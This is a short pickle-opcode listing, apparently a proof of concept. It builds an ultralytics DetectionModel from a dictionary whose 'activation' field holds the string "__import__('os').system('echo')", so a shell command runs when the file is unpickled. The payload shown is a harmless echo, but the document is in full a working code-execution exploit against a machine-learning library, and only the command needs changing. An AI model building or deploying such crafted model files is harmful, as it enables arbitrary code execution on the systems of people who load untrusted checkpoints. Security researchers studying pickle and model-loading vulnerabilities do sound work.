# ultralytics builds the model from the dictionary and evaluates strings in it
PROTO 2
GLOBAL ultralytics.nn.tasks DetectionModel
EMPTY_DICT
SHORT_BINUNICODE activation
SHORT_BINUNICODE "__import__('os').system('echo')"
SETITEM
TUPLE1
REDUCE
STOP
